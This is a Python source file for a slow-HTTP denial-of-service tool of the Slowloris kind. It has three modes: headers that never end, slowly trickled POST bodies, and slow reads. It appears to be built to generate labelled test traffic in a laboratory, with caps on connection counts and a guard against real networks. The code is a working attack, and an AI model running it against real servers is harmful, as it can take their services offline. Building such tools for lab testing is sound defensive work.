#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Holds many HTTP connections open by being slow: labelled test traffic for the laboratory's namespaces.

    slow_http.py headers 10.71.0.2 80 --connections 300 --rate 100 --interval 2 --seconds 10

headers never ends its request's header, body announces a long body and sends a few octets at a time, read
asks for a page and takes its answer in sips. What the server closes is opened again.
"""
import argparse
import asyncio
import random
import sys

sys.dont_write_bytecode = True
from flood_client import (add_common_arguments, check_common_arguments, connected, paced,  # noqa: E402
                          refuse_real_network)

MOST_CONNECTIONS = 2000
MOST_REOPENED = 5  # times: a server that refuses everything must not turn this into a connection flood
SIP_BYTES = 64
LEAST_BUFFER_BYTES = 2304  # the kernel grants no smaller one
WORDS = ("accept", "session", "token", "trace", "cache", "client", "forwarded", "origin")


def opening(mode, args):
    lines = [f"{'POST' if mode == 'body' else 'GET'} {args.path} HTTP/1.1", f"Host: {args.address}",
             "User-Agent: Mozilla/5.0 (X11; Linux x86_64)", "Accept: */*"]
    if mode == "headers":
        return "\r\n".join(lines) + "\r\n"
    if mode == "body":
        lines += ["Content-Type: application/x-www-form-urlencoded", f"Content-Length: {random.randint(2000, 100000)}"]
    return "\r\n".join(lines) + "\r\n\r\n"


def morsel(mode):
    if mode == "headers":
        return f"X-{random.choice(WORDS)}-{random.randint(0, 9999)}: {random.randint(0, 99999)}\r\n"
    return f"&{random.choice(WORDS)}={random.randint(0, 99999)}"


async def be_slow(client, args):
    loop = asyncio.get_running_loop()
    await loop.sock_sendall(client, opening(args.mode, args).encode())
    while True:
        await asyncio.sleep(args.interval * random.uniform(0.8, 1.2))
        if args.mode == "read":
            if not await loop.sock_recv(client, SIP_BYTES):
                return
        else:
            await loop.sock_sendall(client, morsel(args.mode).encode())


async def hold(args, counts):
    for _ in range(MOST_REOPENED):
        try:
            client = await connected(args, LEAST_BUFFER_BYTES if args.mode == "read" else None)
        except (OSError, asyncio.TimeoutError):
            counts["refused"] += 1
            await asyncio.sleep(args.interval)
            continue
        counts["opened"] += 1
        with client:
            try:
                await be_slow(client, args)
            except OSError:
                pass  # the server ended it


async def attack(args):
    counts, tasks = {"opened": 0, "refused": 0}, []
    end = asyncio.get_running_loop().time() + args.seconds
    async for _ in paced(args.rate, args.seconds, args.connections):
        tasks.append(asyncio.create_task(hold(args, counts)))
    await asyncio.wait(tasks, timeout=max(0, end - asyncio.get_running_loop().time()))
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    return counts


def arguments():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("mode", choices=("headers", "body", "read"))
    add_common_arguments(parser)
    parser.add_argument("--path", default="/")
    parser.add_argument("--connections", type=int, default=200, help="held at once (default 200)")
    parser.add_argument("--rate", type=float, default=100, help="connections opened a second (default 100)")
    parser.add_argument("--interval", type=float, default=2, help="seconds between two morsels (default 2)")
    args = parser.parse_args()
    if not 0 < args.connections <= MOST_CONNECTIONS or args.interval <= 0:
        parser.error(f"--connections (at most {MOST_CONNECTIONS}) or --interval is out of bounds")
    check_common_arguments(parser, args)
    return args


def main():
    args = arguments()
    refuse_real_network("slow_http")
    counts = asyncio.run(attack(args))
    print(f"{counts['opened']} connections, {counts['refused']} refused")


if __name__ == "__main__":
    main()
